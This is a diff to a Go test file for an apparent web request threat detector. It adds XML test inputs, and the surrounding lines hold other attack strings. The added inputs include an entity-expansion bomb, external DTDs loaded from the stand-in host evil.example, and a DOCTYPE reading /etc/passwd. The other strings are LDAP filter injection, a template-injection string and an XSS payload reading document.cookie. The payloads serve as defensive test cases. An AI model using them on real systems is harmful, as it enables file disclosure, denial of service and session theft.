@@ -188,6 +188,7 @@ func TestFreshSetFalsePositiveClasses(t *testing.T) {
 		{"body:json", `{"backup_job":{"sources":["/var/lib/postgresql/16/main","/etc/nginx/","C:\\inetpub\\wwwroot\\"]}}`},
 		{"body:json", `{"directory":{"user_filter":"(&(objectCategory=person)(objectClass=user)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))"}}`},
 		{"body:text", "; hardening\nallow_url_fopen = Off\nallow_url_include = Off\nexpose_php = Off"},
+		{"body:xml", `<?xml version="1.0"?><!DOCTYPE note SYSTEM "Note.dtd"><note><to>Tove</to></note>`},
 		{"body:text", "SVG icons: inline vs <img>? We have a sprite <svg class=\"icon\"><use href=\"/icons/sprite.svg#trash\"></use></svg> and designers want to change the colours with CSS, which does not work with an img tag."},
 	})
 	wantThreats(t, d, []valueCase{
@@ -214,6 +215,11 @@ func TestFreshSetFalsePositiveClasses(t *testing.T) {
 		{"query:q", "{{= it.constructor.constructor('return process')() }}"},
 		{"body:json", `{"username":"*)(uid=*))(|(uid=*"}`},
 		{"body:text", "allow_url_include = On"},
+		{"body:xml", `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`},
+		{"body:xml", `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>`},
+		{"body:xml", "<!--?xml version=\"1.0\" ?-->\n<!DOCTYPE replace [<!ENTITY example \"Doe\"> ]>\n <userInfo><lastName>&example;</lastName></userInfo>"},
+		{"body:xml", `<!DOCTYPE x SYSTEM "/etc/passwd"><x/>`},
+		{"body:xml", `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><x/>`},
 		{"body:text", "Please review my comment, it has an example in it: <img src=x onerror=alert(document.cookie)> and some more text around it for the reviewers to read."},
 	})
 }
